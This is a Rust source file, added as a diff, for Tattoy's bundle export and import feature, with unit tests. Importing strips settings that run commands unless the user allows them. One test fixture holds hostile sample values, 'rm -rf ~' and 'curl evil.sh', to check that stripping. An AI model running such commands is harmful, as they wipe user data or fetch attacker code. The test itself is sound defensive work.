@@ -0,0 +1,544 @@
+//! `tattoy export` and `tattoy import`: share a complete "look" as a single file.
+//!
+//! A bundle is a TOML file holding the text of the main config, with all its comments, and every
+//! file that the config refers to, like shaders and sounds, base64 encoded. Paths in the bundled
+//! config are relative to the bundle. Importing unpacks a bundle into its own directory inside the
+//! config directory, and points the config's paths there, so that importing never changes the
+//! user's own config or files.
+//!
+//! A bundle could come from anyone, so settings that run commands, like hooks and plugins, are left
+//! out of imports unless they're explicitly allowed.
+
+#![expect(clippy::print_stdout, reason = "We need to give user feedback")]
+
+use base64::Engine as _;
+use color_eyre::eyre::{Context as _, ContextCompat as _, Result};
+
+/// The version of the bundle format.
+const FORMAT: u32 = 1;
+
+/// The directory, inside the config directory, that bundles are imported into.
+const BUNDLES_DIRECTORY: &str = "bundles";
+
+/// The name of an imported bundle's config file. It's not `tattoy.toml`, so that it's never
+/// mistaken for the default config.
+const CONFIG_FILE_NAME: &str = "config.toml";
+
+/// Where files from outside the config directory go in a bundle.
+const EXTERNAL_FILES_DIRECTORY: &str = "files";
+
+/// The top level settings that run commands or send requests. Hooks do one or the other, so they
+/// all go.
+const COMMAND_SETTINGS: [&str; 4] = ["command", "bg_command", "hooks", "plugins"];
+
+/// What a path in the config points to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A single file.
+    File,
+    /// A directory, all of whose files are used, like the shaders that are rotated through.
+    Directory,
+}
+
+/// A shareable config and all of the files that it uses.
+#[derive(serde::Serialize, serde::Deserialize, Debug, PartialEq, Eq)]
+struct Bundle {
+    /// The version of the bundle format.
+    format: u32,
+    /// The text of the main config, with its paths relative to the bundle.
+    config: String,
+    /// The base64 encoded files, by their path in the bundle.
+    files: std::collections::BTreeMap<String, String>,
+}
+
+impl Bundle {
+    /// Bundle up a config and the files that it uses.
+    fn export(directory: &std::path::Path, config: &str) -> Result<Self> {
+        let mut document = config.parse::<toml_edit::DocumentMut>()?;
+        let mut files = std::collections::BTreeMap::new();
+
+        remap_paths(&mut document, &mut |path, kind| {
+            let source = directory.join(path);
+            if kind == Kind::Directory {
+                let bundled = bundled_directory(directory, &source, &files);
+                let entries = std::fs::read_dir(&source).with_context(|| {
+                    format!("Couldn't read the directory `{path}`, which the config uses")
+                })?;
+                for entry in entries {
+                    let file = entry?.path();
+                    let Some(name) = file.file_name().filter(|_| file.is_file()) else {
+                        continue;
+                    };
+                    let bytes = std::fs::read(&file)?;
+                    files.insert(
+                        format!("{bundled}/{}", name.to_string_lossy()),
+                        base64::engine::general_purpose::STANDARD.encode(bytes),
+                    );
+                }
+                return Ok(Some(bundled));
+            }
+
+            let bytes = std::fs::read(&source)
+                .with_context(|| format!("Couldn't read `{path}`, which the config uses"))?;
+            let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
+            let bundled = bundled_path(directory, &source, &files, &encoded);
+            files.insert(bundled.clone(), encoded);
+            Ok(Some(bundled))
+        })?;
+
+        Ok(Self {
+            format: FORMAT,
+            config: document.to_string(),
+            files,
+        })
+    }
+
+    /// The config, with its paths pointing to where the bundle's files are imported to. Unless
+    /// commands are allowed, any settings that run them are removed, and listed.
+    fn imported_config(
+        &self,
+        root: &str,
+        is_commands_allowed: bool,
+    ) -> Result<(String, Vec<String>)> {
+        let mut document = self.config.parse::<toml_edit::DocumentMut>()?;
+        remap_paths(&mut document, &mut |path, kind| {
+            let is_bundled = match kind {
+                Kind::File => self.files.contains_key(path),
+                Kind::Directory => is_directory_in(path, &self.files),
+            };
+            Ok(is_bundled.then(|| format!("{root}/{path}")))
+        })?;
+        let removed = if is_commands_allowed {
+            Vec::new()
+        } else {
+            remove_commands(&mut document)
+        };
+        Ok((document.to_string(), removed))
+    }
+}
+
+/// Export the current config, and every file that it uses, to a bundle.
+pub(crate) async fn export(
+    state: &std::sync::Arc<crate::shared_state::SharedState>,
+    output: &std::path::Path,
+) -> Result<()> {
+    let directory = crate::config::main::Config::directory(state).await;
+    let config_path = crate::config::main::Config::main_config_path(state).await;
+    let config = std::fs::read_to_string(&config_path)
+        .with_context(|| format!("Couldn't read config at {}", config_path.display()))?;
+
+    let bundle = Bundle::export(&directory, &config)?;
+    std::fs::write(output, toml::to_string(&bundle)?)?;
+
+    println!(
+        "Exported your config, and the {} files it uses, to {}",
+        bundle.files.len(),
+        output.display()
+    );
+    Ok(())
+}
+
+/// Import a bundle into its own directory in the config directory. It's named after the bundle's
+/// file, unless another name is given.
+pub(crate) async fn import(
+    state: &std::sync::Arc<crate::shared_state::SharedState>,
+    bundle_path: &std::path::Path,
+    name: Option<&str>,
+    is_commands_allowed: bool,
+) -> Result<()> {
+    let bundle = toml::from_str::<Bundle>(&std::fs::read_to_string(bundle_path)?)
+        .with_context(|| format!("{} isn't a Tattoy bundle", bundle_path.display()))?;
+    if bundle.format != FORMAT {
+        color_eyre::eyre::bail!(
+            "Bundle format {} isn't supported, this version of Tattoy supports format {FORMAT}",
+            bundle.format
+        );
+    }
+
+    let name = match name {
+        Some(name) => name.to_owned(),
+        None => bundle_path
+            .file_stem()
+            .context("Couldn't get a name from the bundle's file name")?
+            .to_string_lossy()
+            .into_owned(),
+    };
+    let mut components = std::path::Path::new(&name).components();
+    let is_one_directory = matches!(components.next(), Some(std::path::Component::Normal(_)))
+        && components.next().is_none();
+    if !is_one_directory {
+        color_eyre::eyre::bail!("`{name}` can't be used as the name of a bundle");
+    }
+
+    let root = format!("{BUNDLES_DIRECTORY}/{name}");
+    let directory = crate::config::main::Config::directory(state).await;
+    let target = directory.join(&root);
+    if target.exists() {
+        color_eyre::eyre::bail!(
+            "A bundle called `{name}` has already been imported, to {}. Use `--name` to import \
+            it under a different name.",
+            target.display()
+        );
+    }
+
+    let (config, removed) = bundle.imported_config(&root, is_commands_allowed)?;
+
+    // Everything is checked before anything is written, so that a bad bundle doesn't leave half
+    // of itself behind.
+    let files = bundle
+        .files
+        .iter()
+        .map(|(path, encoded)| {
+            crate::packages::validate_path(std::path::Path::new(path))?;
+            let bytes = base64::engine::general_purpose::STANDARD
+                .decode(encoded)
+                .with_context(|| format!("`{path}` in the bundle isn't valid base64"))?;
+            Ok((target.join(path), bytes))
+        })
+        .collect::<Result<Vec<_>>>()?;
+
+    for (file, bytes) in files {
+        if let Some(parent) = file.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(file, bytes)?;
+    }
+    std::fs::create_dir_all(&target)?;
+    std::fs::write(target.join(CONFIG_FILE_NAME), config)?;
+
+    println!("Imported `{name}`. Try it with: tattoy --main-config {root}/{CONFIG_FILE_NAME}");
+    if !removed.is_empty() {
+        println!(
+            "These settings run commands, so they weren't imported: {}. Import again with \
+            `--allow-commands` if you trust the bundle.",
+            removed.join(", ")
+        );
+    }
+    Ok(())
+}
+
+/// Where a file or directory from inside the config directory goes in a bundle: the same place.
+fn config_relative_path(directory: &std::path::Path, source: &std::path::Path) -> Option<String> {
+    let relative = source.strip_prefix(directory).ok().filter(|relative| {
+        relative
+            .components()
+            .all(|component| matches!(component, std::path::Component::Normal(_)))
+    })?;
+    let parts = relative
+        .components()
+        .map(|component| component.as_os_str().to_string_lossy())
+        .collect::<Vec<_>>();
+    Some(parts.join("/"))
+}
+
+/// Whether a bundle has any files in a directory.
+fn is_directory_in(path: &str, files: &std::collections::BTreeMap<String, String>) -> bool {
+    let prefix = format!("{path}/");
+    files.keys().any(|file| file.starts_with(&prefix))
+}
+
+/// Where a directory goes in a bundle. Like files, directories from outside the config directory
+/// are collected together, with unique names.
+fn bundled_directory(
+    directory: &std::path::Path,
+    source: &std::path::Path,
+    files: &std::collections::BTreeMap<String, String>,
+) -> String {
+    if let Some(relative) = config_relative_path(directory, source) {
+        return relative;
+    }
+
+    let name = source
+        .file_name()
+        .map_or_else(|| "directory".into(), |name| name.to_string_lossy());
+    let mut bundled = format!("{EXTERNAL_FILES_DIRECTORY}/{name}");
+    let mut count = 1_u32;
+    while files.contains_key(&bundled) || is_directory_in(&bundled, files) {
+        count += 1;
+        bundled = format!("{EXTERNAL_FILES_DIRECTORY}/{name}-{count}");
+    }
+    bundled
+}
+
+/// Where a file goes in a bundle. Files from inside the config directory keep their place, other
+/// files are collected together. Names are made unique if different files would clash.
+fn bundled_path(
+    directory: &std::path::Path,
+    source: &std::path::Path,
+    files: &std::collections::BTreeMap<String, String>,
+    encoded: &str,
+) -> String {
+    if let Some(relative) = config_relative_path(directory, source) {
+        return relative;
+    }
+
+    let stem = source
+        .file_stem()
+        .map_or_else(|| "file".into(), |stem| stem.to_string_lossy());
+    let extension = source
+        .extension()
+        .map(|extension| format!(".{}", extension.to_string_lossy()))
+        .unwrap_or_default();
+    let mut bundled = format!("{EXTERNAL_FILES_DIRECTORY}/{stem}{extension}");
+    let mut count = 1_u32;
+    while files
+        .get(&bundled)
+        .is_some_and(|existing| existing != encoded)
+    {
+        count += 1;
+        bundled = format!("{EXTERNAL_FILES_DIRECTORY}/{stem}-{count}{extension}");
+    }
+    bundled
+}
+
+/// Remove the settings that run commands from a config, returning the ones that were there.
+fn remove_commands(document: &mut toml_edit::DocumentMut) -> Vec<String> {
+    let root = document.as_table_mut();
+    let mut removed = COMMAND_SETTINGS
+        .into_iter()
+        .filter(|key| root.remove(key).is_some())
+        .map(|key| format!("`{key}`"))
+        .collect::<Vec<String>>();
+
+    let is_player_removed = root
+        .get_mut("sounds")
+        .and_then(toml_edit::Item::as_table_like_mut)
+        .and_then(|sounds| sounds.remove("player"))
+        .is_some();
+    if is_player_removed {
+        removed.push("`sounds.player`".to_owned());
+    }
+
+    removed
+}
+
+/// Call `remap` on every file path in a config. The path is replaced with whatever `remap` returns,
+/// if anything, keeping any comments around it.
+fn remap_paths(
+    document: &mut toml_edit::DocumentMut,
+    remap: &mut dyn FnMut(&str, Kind) -> Result<Option<String>>,
+) -> Result<()> {
+    let root = document.as_table_mut();
+    for (section, key, kind) in [
+        ("shader", "path", Kind::File),
+        ("shader", "rotate_directory", Kind::Directory),
+        ("animated_cursor", "path", Kind::File),
+        ("animated_cursor", "rotate_directory", Kind::Directory),
+        ("screensaver", "shader", Kind::File),
+        ("sounds", "keypress", Kind::File),
+    ] {
+        if let Some(table) = root
+            .get_mut(section)
+            .and_then(toml_edit::Item::as_table_like_mut)
+        {
+            remap_key(table, key, kind, remap)?;
+        }
+    }
+
+    if let Some(shader) = root
+        .get_mut("shader")
+        .and_then(toml_edit::Item::as_table_like_mut)
+    {
+        remap_directories(shader, remap)?;
+    }
+
+    if let Some(shaders) = root
+        .get_mut("shaders")
+        .and_then(toml_edit::Item::as_array_of_tables_mut)
+    {
+        for shader in shaders.iter_mut() {
+            remap_key(shader, "path", Kind::File, remap)?;
+            remap_key(shader, "rotate_directory", Kind::Directory, remap)?;
+            remap_directories(shader, remap)?;
+        }
+    }
+
+    Ok(())
+}
+
+/// Remap the paths of a shader's directory rules. They can be written as an array of tables, or
+/// as an array of inline tables.
+fn remap_directories(
+    shader: &mut dyn toml_edit::TableLike,
+    remap: &mut dyn FnMut(&str, Kind) -> Result<Option<String>>,
+) -> Result<()> {
+    let Some(directories) = shader.get_mut("directories") else {
+        return Ok(());
+    };
+
+    if let Some(rules) = directories.as_array_of_tables_mut() {
+        for rule in rules.iter_mut() {
+            remap_key(rule, "path", Kind::File, remap)?;
+        }
+    } else if let Some(rules) = directories.as_array_mut() {
+        for rule in rules.iter_mut() {
+            if let Some(rule) = rule.as_inline_table_mut() {
+                remap_key(rule, "path", Kind::File, remap)?;
+            }
+        }
+    }
+
+    Ok(())
+}
+
+/// Remap a single path.
+fn remap_key(
+    table: &mut dyn toml_edit::TableLike,
+    key: &str,
+    kind: Kind,
+    remap: &mut dyn FnMut(&str, Kind) -> Result<Option<String>>,
+) -> Result<()> {
+    let Some(value) = table.get_mut(key).and_then(toml_edit::Item::as_value_mut) else {
+        return Ok(());
+    };
+    let Some(path) = value.as_str() else {
+        return Ok(());
+    };
+
+    if let Some(remapped) = remap(path, kind)? {
+        let decor = value.decor().clone();
+        *value = remapped.into();
+        *value.decor_mut() = decor;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    const CONFIG: &str = "# My look\n[shader]\nenabled = true\npath = \"shaders/glow.glsl\" # Glowy\n\
+                          directories = [{ glob = \"~/work/**\", path = \"shaders/calm.glsl\" }]\n\n\
+                          [sounds]\nkeypress = \"EXTERNAL\"\n";
+
+    fn config_directory() -> (tempfile::TempDir, tempfile::TempDir, String) {
+        let directory = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(directory.path().join("shaders")).unwrap();
+        std::fs::write(directory.path().join("shaders/glow.glsl"), "glow").unwrap();
+        std::fs::write(directory.path().join("shaders/calm.glsl"), "calm").unwrap();
+
+        let elsewhere = tempfile::tempdir().unwrap();
+        let external = elsewhere.path().join("click.wav");
+        std::fs::write(&external, "click").unwrap();
+        let config = CONFIG.replace("EXTERNAL", &external.display().to_string());
+        (directory, elsewhere, config)
+    }
+
+    #[test]
+    fn exports_include_every_used_file() {
+        let (directory, _elsewhere, config) = config_directory();
+        let bundle = Bundle::export(directory.path(), &config).unwrap();
+
+        assert_eq!(
+            bundle.files.keys().collect::<Vec<_>>(),
+            ["files/click.wav", "shaders/calm.glsl", "shaders/glow.glsl"]
+        );
+        assert_eq!(
+            bundle.files.get("shaders/glow.glsl").unwrap(),
+            &base64::engine::general_purpose::STANDARD.encode("glow")
+        );
+        assert!(bundle.config.starts_with("# My look\n"));
+        assert!(bundle
+            .config
+            .contains("path = \"shaders/glow.glsl\" # Glowy"));
+        assert!(bundle.config.contains("keypress = \"files/click.wav\""));
+    }
+
+    #[test]
+    fn imports_point_into_the_bundle() {
+        let (directory, _elsewhere, config) = config_directory();
+        let bundle = Bundle::export(directory.path(), &config).unwrap();
+        let (imported, removed) = bundle.imported_config("bundles/look", false).unwrap();
+        assert!(removed.is_empty());
+
+        let parsed = toml::from_str::<crate::config::main::Config>(&imported).unwrap();
+        assert_eq!(
+            parsed.shader.path,
+            std::path::PathBuf::from("bundles/look/shaders/glow.glsl")
+        );
+        assert_eq!(
+            parsed.shader.directories.first().unwrap().path,
+            std::path::PathBuf::from("bundles/look/shaders/calm.glsl")
+        );
+        assert_eq!(
+            parsed.sounds.keypress,
+            Some("bundles/look/files/click.wav".into())
+        );
+    }
+
+    #[test]
+    fn imports_leave_out_commands_unless_allowed() {
+        let bundle = Bundle {
+            format: FORMAT,
+            config: "command = \"rm -rf ~\"\n[sounds]\nplayer = \"curl evil.sh\"\n\
+                     [[hooks]]\non = \"exit\"\ncommand = \"rm -rf ~\"\n"
+                .to_owned(),
+            files: std::collections::BTreeMap::new(),
+        };
+
+        let (imported, removed) = bundle.imported_config("bundles/look", false).unwrap();
+        assert_eq!(removed, ["`command`", "`hooks`", "`sounds.player`"]);
+        assert!(!imported.contains("rm -rf"));
+        assert!(!imported.contains("evil"));
+
+        let (imported, removed) = bundle.imported_config("bundles/look", true).unwrap();
+        assert!(removed.is_empty());
+        assert_eq!(imported, bundle.config);
+    }
+
+    #[test]
+    fn rotation_directories_are_bundled() {
+        let directory = tempfile::tempdir().unwrap();
+        let elsewhere = tempfile::tempdir().unwrap();
+        let rotating = elsewhere.path().join("rotating");
+        std::fs::create_dir_all(&rotating).unwrap();
+        std::fs::write(rotating.join("a.glsl"), "a").unwrap();
+        std::fs::write(rotating.join("b.glsl"), "b").unwrap();
+        let config = format!(
+            "[animated_cursor]\nrotate_directory = \"{}\"\n",
+            rotating.display()
+        );
+
+        let bundle = Bundle::export(directory.path(), &config).unwrap();
+        assert_eq!(
+            bundle.files.keys().collect::<Vec<_>>(),
+            ["files/rotating/a.glsl", "files/rotating/b.glsl"]
+        );
+        assert!(bundle
+            .config
+            .contains("rotate_directory = \"files/rotating\""));
+
+        let (imported, _) = bundle.imported_config("bundles/look", false).unwrap();
+        let parsed = toml::from_str::<crate::config::main::Config>(&imported).unwrap();
+        assert_eq!(
+            parsed.animated_cursor.rotate_directory,
+            Some("bundles/look/files/rotating".into())
+        );
+    }
+
+    #[test]
+    fn clashing_external_files_are_renamed() {
+        let directory = std::path::Path::new("/config");
+        let mut files = std::collections::BTreeMap::new();
+        files.insert("files/a.glsl".to_owned(), "one".to_owned());
+
+        let source = std::path::Path::new("/elsewhere/a.glsl");
+        assert_eq!(
+            bundled_path(directory, source, &files, "one"),
+            "files/a.glsl"
+        );
+        assert_eq!(
+            bundled_path(directory, source, &files, "two"),
+            "files/a-2.glsl"
+        );
+        assert_eq!(
+            bundled_path(
+                directory,
+                std::path::Path::new("/config/shaders/a.glsl"),
+                &files,
+                "two"
+            ),
+            "shaders/a.glsl"
+        );
+    }
+}